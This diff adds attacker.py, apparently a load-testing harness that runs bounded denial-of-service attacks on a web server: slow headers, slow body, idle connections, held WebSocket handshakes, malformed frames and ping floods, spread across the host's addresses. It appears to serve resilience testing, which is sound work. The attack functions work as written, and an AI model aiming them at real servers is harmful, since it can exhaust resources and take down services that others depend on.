@@ -1,0 +1,217 @@
+"""Attacks on a web server, from a host of their own; the standard library is all that they need.
+
+    attacker.py <address> <port> <attack> '{"option": value}'
+
+Each is bounded in connections and in time and ends by itself. It prints one line of JSON: how many connections met which
+end. The connections come from all addresses of this host in turn.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import base64
+import json
+import os
+import subprocess
+import sys
+from collections import Counter
+from itertools import cycle
+
+HOST = "probe.test"
+ECHO = "/live/echo"
+LONGEST = 60.0  # seconds that any attack may take
+TOGETHER = 400  # connections that are being opened at the same time
+
+
+def addresses() -> list[str]:
+    """Return this host's own addresses, loopback aside."""
+    text = subprocess.run(["hostname", "-I"], capture_output=True, text=True, check=True).stdout
+    return [word for word in text.split() if "." in word]
+
+
+class Attack:
+    """A number of connections to one server, and what became of them."""
+
+    def __init__(self, address: str, port: int) -> None:
+        self.target = (address, port)
+        self.sources = cycle(addresses())
+        self.ends: Counter[str] = Counter()
+        self.opening = asyncio.Semaphore(TOGETHER)
+
+    async def connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
+        """Open one connection from the next address."""
+        async with self.opening:
+            return await asyncio.wait_for(
+                asyncio.open_connection(*self.target, local_addr=(next(self.sources), 0)), 20
+            )
+
+    async def many(self, count: int, one) -> None:  # noqa: ANN001 - a coroutine function
+        """Run `one` so many times side by side and count the ends that it returns."""
+
+        async def counted() -> None:
+            try:
+                end = await asyncio.wait_for(one(), LONGEST)
+            except (OSError, asyncio.IncompleteReadError) as error:
+                end = type(error).__name__
+            except TimeoutError:
+                end = "held"
+            self.ends[end] += 1
+
+        await asyncio.gather(*(counted() for _ in range(count)))
+
+
+async def status(reader: asyncio.StreamReader, seconds: float) -> str:
+    """Return the status of an answer, `closed` where there is none, or `held` where nothing happens in time."""
+    try:
+        line = await asyncio.wait_for(reader.readline(), seconds)
+    except TimeoutError:
+        return "held"
+    except OSError:
+        return "closed"
+    words = line.decode("latin-1").split()
+    return words[1] if len(words) > 1 else "closed"
+
+
+async def drip(attack: Attack, count: int, seconds: float, head: bytes, drop: bytes) -> None:
+    """Send the beginning of a request, then a few bytes each second."""
+
+    async def one() -> str:
+        reader, writer = await attack.connect()
+        answer = asyncio.create_task(status(reader, seconds + 10))
+        try:
+            writer.write(head)
+            for _ in range(int(seconds)):
+                if answer.done():
+                    break
+                writer.write(drop)
+                await writer.drain()
+                await asyncio.sleep(1)  # the slowness is the attack
+        except OSError:
+            pass
+        end = await answer
+        writer.close()
+        return end
+
+    await attack.many(count, one)
+
+
+async def slow_headers(attack: Attack, count: int, seconds: float) -> None:
+    """Never finish the headers."""
+    head = f"GET / HTTP/1.1\r\nHost: {HOST}\r\n".encode()
+    await drip(attack, count, seconds, head, b"X-A: b\r\n")
+
+
+async def slow_body(attack: Attack, count: int, seconds: float) -> None:
+    """Announce a body and send it byte by byte."""
+    head = f"POST / HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 100000\r\n\r\n".encode()
+    await drip(attack, count, seconds, head, b"x")
+
+
+async def silent(attack: Attack, count: int, seconds: float) -> None:
+    """Connect and say nothing."""
+
+    async def one() -> str:
+        reader, writer = await attack.connect()
+        end = await status(reader, seconds)
+        writer.close()
+        return end
+
+    await attack.many(count, one)
+
+
+def handshake() -> bytes:
+    """Return a complete WebSocket handshake."""
+    key = base64.b64encode(os.urandom(16)).decode()
+    return (
+        f"GET {ECHO} HTTP/1.1\r\nHost: {HOST}\r\nOrigin: http://{HOST}\r\nConnection: Upgrade\r\n"
+        f"Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {key}\r\n\r\n"
+    ).encode()
+
+
+async def handshakes(attack: Attack, count: int, seconds: float) -> None:
+    """Open sockets and keep them."""
+
+    async def one() -> str:
+        reader, writer = await attack.connect()
+        writer.write(handshake())
+        end = await status(reader, 20)
+        await asyncio.sleep(seconds)  # holding what one got is the attack
+        writer.close()
+        return end
+
+    await attack.many(count, one)
+
+
+async def frames(attack: Attack, count: int, seconds: float, data: str) -> None:
+    """Open sockets and send bytes (base64) that are no good frames; tell the close codes."""
+
+    async def one() -> str:
+        reader, writer = await attack.connect()
+        writer.write(handshake())
+        await reader.readuntil(b"\r\n\r\n")
+        try:
+            writer.write(base64.b64decode(data))
+            await writer.drain()
+            async with asyncio.timeout(seconds):
+                while True:
+                    first, second = await reader.readexactly(2)
+                    length = second & 127
+                    if length == 126:
+                        length = int.from_bytes(await reader.readexactly(2), "big")
+                    payload = await reader.readexactly(length)
+                    if first & 15 == 8:
+                        return f"close {int.from_bytes(payload[:2], 'big')}"
+        except TimeoutError:
+            return "held"
+        except (OSError, asyncio.IncompleteReadError):
+            return "closed"
+        finally:
+            writer.close()
+
+    await attack.many(count, one)
+
+
+async def pings(attack: Attack, count: int, seconds: float, each: int) -> None:
+    """Send many pings over each socket, and count whether all were answered."""
+    ping = b"\x89\x80\0\0\0\0"
+
+    async def one() -> str:
+        reader, writer = await attack.connect()
+        writer.write(handshake())
+        await reader.readuntil(b"\r\n\r\n")
+        try:
+            async with asyncio.timeout(seconds):
+                for _ in range(each // 100):
+                    writer.write(ping * 100)
+                    await writer.drain()
+                    await reader.readexactly(200)
+            return "answered"
+        except TimeoutError:
+            return "held"
+        except (OSError, asyncio.IncompleteReadError):
+            return "closed"
+        finally:
+            writer.close()
+
+    await attack.many(count, one)
+
+
+ATTACKS = {
+    "slow_headers": slow_headers,
+    "slow_body": slow_body,
+    "silent": silent,
+    "handshakes": handshakes,
+    "frames": frames,
+    "pings": pings,
+}
+
+
+async def main() -> None:
+    """Run the attack that the command line names."""
+    attack = Attack(sys.argv[1], int(sys.argv[2]))
+    await ATTACKS[sys.argv[3]](attack, **json.loads(sys.argv[4]))
+    print(json.dumps(dict(attack.ends)))
+
+
+if __name__ == "__main__":
+    asyncio.run(main())
